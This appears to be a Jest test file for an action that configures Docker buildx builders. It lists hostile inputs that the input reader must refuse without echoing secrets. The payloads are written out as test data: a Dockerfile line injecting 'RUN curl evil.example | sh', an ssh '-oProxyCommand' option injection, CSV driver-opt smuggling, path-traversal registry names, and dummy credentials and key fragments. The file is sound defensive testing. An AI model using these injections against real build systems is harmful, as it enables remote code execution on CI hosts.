import { describe, expect, test } from '@jest/globals'
import * as os from 'node:os'
import { getInputs } from '../../../src/drivers/read-inputs.js'
import { InputError } from '../../../src/runner/errors.js'
import * as yaml from 'yaml'

// Issue #18, "Inputs that still get through": each row is an input that used to be taken (or
// refused with its value echoed). Each must now be refused with an error that names the
// input (and the line, where the input has lines), and that never holds `secret`.

const home = os.tmpdir() // no ~/.docker/buildx/buildkitd.default.toml there
const run = (m: Record<string, string>) => () => getInputs(n => m[n] ?? '', { env: {}, home, yaml })

function refusal(m: Record<string, string>): InputError {
  try {
    run(m)()
  } catch (err) {
    if (err instanceof InputError) return err
    throw err
  }
  throw new Error(`accepted: ${JSON.stringify(m)}`)
}

interface Row {
  what: string
  inputs: Record<string, string>
  /** The error's start: input "…"[, line n] */
  names: string
  /** Never in the message */
  secret?: string
  /** The reason, where another refusal could name the same input */
  says?: RegExp
}

const KEY_B64 = 'LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUV2Z0lCQURBTkJna3Foa2lHOXcwQkFRRUZBQVNDQktnd2dnU2tBZ0VBQW9J'

const rows: Row[] = [
  // registry-certs: a field is a file path or env:NAME, never the key itself
  {
    what: 'registry-certs key= as inline base64',
    inputs: { 'registry-certs': `registry.example cert=c.pem key=${KEY_B64}` },
    names: 'input "registry-certs", line 1',
    says: /key= holds what looks like key or certificate text/,
    secret: KEY_B64.slice(0, 12)
  },
  {
    what: 'registry-certs ca= as a short base64 paste',
    inputs: { 'registry-certs': '# certs\nregistry.example ca=LS0tLS1CRUdJTiBDRVJU' },
    names: 'input "registry-certs", line 2',
    secret: 'LS0tLS1CRUdJTiBDRVJU'
  },
  {
    what: 'registry-certs field without key= as base64',
    inputs: { 'registry-certs': `registry.example ${KEY_B64}` },
    names: 'input "registry-certs", line 1',
    secret: KEY_B64.slice(0, 12)
  },
  {
    what: 'buildkitd-config-inline keypair key as base64',
    inputs: { 'buildkitd-config-inline': `[registry."r.example"]\nkeypair = [{ key = "${KEY_B64}", cert = "c.pem" }]\n` },
    names: 'input "buildkitd-config-inline"',
    secret: KEY_B64.slice(0, 12)
  },
  // buildkit-image: goes into the CNI Dockerfile's FROM and LABEL lines and to docker pull
  {
    what: 'buildkit-image with a newline adds a Dockerfile instruction',
    inputs: { cni: 'true', 'buildkit-image': 'moby/buildkit:latest\nRUN curl evil.example | sh' },
    names: 'input "buildkit-image"',
    secret: '\nRUN'
  },
  {
    what: 'buildkit-image with " breaks the LABEL line',
    inputs: { cni: 'true', 'buildkit-image': 'moby/buildkit:latest"x' },
    names: 'input "buildkit-image"'
  },
  {
    what: 'buildkit-image --help reaches docker pull',
    inputs: { cni: 'true', 'buildkit-image': '--help' },
    names: 'input "buildkit-image"'
  },
  // cni-image: handed to buildx as --driver-opt image=<it>, which buildx reads as CSV
  {
    what: 'cni-image with commas injects driver-opts',
    inputs: { 'cni-image': 'moby/buildkit:latest,network=host,env.BUILDKIT_BUILDER_ACTION_OWNER=x' },
    names: 'input "cni-image"'
  },
  // driver-opts: read as CSV, as buildx reads them
  {
    what: 'a quoted "network=host" bypasses the CNI guard',
    inputs: { cni: 'bridge', 'driver-opts': 'image=moby/buildkit:latest\n"network=host"' },
    names: 'input "driver-opts"',
    says: /CNI bridge/
  },
  {
    what: 'network=host after another field',
    inputs: { cni: 'bridge', 'driver-opts': '"env.A=1,2",network=host' },
    names: 'input "driver-opts"',
    says: /CNI bridge/
  },
  {
    what: 'driver-opts sets the owner key',
    inputs: { 'driver-opts': 'env.BUILDKIT_BUILDER_ACTION_OWNER=someone-else' },
    names: 'input "driver-opts", line 1',
    says: /BUILDKIT_BUILDER_ACTION_OWNER is the mark/
  },
  {
    what: 'driver-opts sets the owner label (kubernetes)',
    inputs: { driver: 'kubernetes', 'driver-opts': 'namespace=ci\nlabels=buildkit-builder-action/owner=x' },
    names: 'input "driver-opts", line 2',
    says: /buildkit-builder-action\/owner, the mark/
  },
  { what: 'driver-opts image= with --help', inputs: { 'driver-opts': 'image=--help' }, names: 'input "driver-opts", line 1' },
  {
    what: "a pasted key's next line in driver-opts is not echoed",
    inputs: {
      driver: 'remote',
      endpoint: 'tcp://bk:1234',
      'driver-opts': 'key=-----BEGIN PRIVATE KEY-----\nMIIEvgIBADANBgkqhkiG9w0BAQEFAASCBKgwggSkAgEAAoIBAQC'
    },
    names: 'input "driver-opts", line 1',
    secret: 'MIIEvgIBADANBgkqhkiG9w0BAQEFAASCBKgwggSkAgEAAoIBAQC'
  },
  // endpoint: a host or user starting with - is an option to ssh
  {
    what: 'endpoint ssh://-oProxyCommand=…',
    inputs: { endpoint: 'ssh://-oProxyCommand=touch$IFS/tmp/pwned' },
    names: 'input "endpoint"',
    says: /host starts with "-"/
  },
  {
    what: 'endpoint ssh://-user@host',
    inputs: { endpoint: 'ssh://-oProxyCommand=x@host' },
    names: 'input "endpoint"',
    says: /user starts with "-"/
  },
  {
    what: 'remote endpoint tcp://-x',
    inputs: { driver: 'remote', endpoint: 'tcp://-x:1234' },
    names: 'input "endpoint"',
    says: /host starts with "-"/
  },
  {
    what: 'append endpoint ssh://-o…',
    inputs: { append: '- name: n2\n  endpoint: ssh://-oProxyCommand=x\n' },
    names: 'input "append", line 1',
    says: /host starts with "-"/
  },
  // host lists: credentials are refused, never echoed
  {
    what: 'mirrors with user:pass@',
    inputs: { mirrors: 'docker.io=https://bob:hunter2secret@mirror.example' },
    names: 'input "mirrors", line 1',
    says: /credentials/,
    secret: 'hunter2secret'
  },
  {
    what: 'mirrors line without = but with credentials',
    inputs: { mirrors: 'https://bob:hunter2secret@m.example' },
    names: 'input "mirrors", line 1',
    secret: 'hunter2secret'
  },
  {
    what: 'http-registries with credentials and a scheme',
    inputs: { 'http-registries': 'a.example\nhttp://bob:hunter2secret@r.example:5000' },
    names: 'input "http-registries", line 2',
    secret: 'hunter2secret'
  },
  {
    what: 'insecure-registries with credentials',
    inputs: { 'insecure-registries': 'bob:hunter2secret@r.example' },
    names: 'input "insecure-registries", line 1',
    secret: 'hunter2secret'
  },
  {
    what: 'registry-certs registry with credentials',
    inputs: { 'registry-certs': 'bob:hunter2secret@r.example ca=ca.pem' },
    names: 'input "registry-certs", line 1',
    secret: 'hunter2secret'
  },
  // a base config's registry sections: the key is a host, as in the registry inputs
  {
    what: 'base config registry ".."',
    inputs: { 'buildkitd-config-inline': '[registry.".."]\nhttp = true\n' },
    names: 'input "buildkitd-config-inline"'
  },
  {
    what: 'base config registry "a]b"',
    inputs: { 'buildkitd-config-inline': '[registry."a]b"]\nca = ["/ca.pem"]\n' },
    names: 'input "buildkitd-config-inline"'
  },
  {
    what: 'base config registry "../../etc"',
    inputs: { 'buildkitd-config-inline': '[registry."../../etc"]\nca = ["/ca.pem"]\n' },
    names: 'input "buildkitd-config-inline"'
  },
  {
    what: 'base config registry with credentials',
    inputs: { 'buildkitd-config-inline': '[registry."bob:hunter2secret@r.example"]\nhttp = true\n' },
    names: 'input "buildkitd-config-inline"',
    secret: 'hunter2secret'
  },
  // names: buildx takes any length, the engine does not (state volume buildx_buildkit_<node>_state)
  {
    what: 'a builder name of 300 characters',
    inputs: { name: 'b' + 'x'.repeat(299) },
    names: 'input "name"',
    says: /at most 231/,
    secret: 'x'.repeat(80)
  },
  { what: 'a builder name of 232 characters', inputs: { name: 'b' + 'x'.repeat(231) }, names: 'input "name"', says: /at most 231/ },
  {
    what: 'a remote builder name of 218 characters',
    inputs: { driver: 'remote', endpoint: 'tcp://bk:1234', name: 'b' + 'x'.repeat(217) },
    names: 'input "name"',
    says: /at most 217/
  },
  {
    what: 'an appended node name of 234 characters',
    inputs: { append: `- name: n${'x'.repeat(233)}\n  endpoint: ctx2\n` },
    names: 'input "append", line 1',
    says: /at most 233/
  },
  { what: 'cni-image with a quote', inputs: { 'cni-image': 'a"b' }, names: 'input "cni-image"' }
]

describe('refused inputs (issue #18)', () => {
  test.each(rows.map(r => [r.what, r] as const))('%s', (_what, row) => {
    const err = refusal(row.inputs)
    expect(err.message.slice(0, row.names.length + 1)).toBe(row.names + ':')
    if (row.secret !== undefined) expect(err.message).not.toContain(row.secret)
    if (row.says !== undefined) expect(err.message).toMatch(row.says)
  })
})
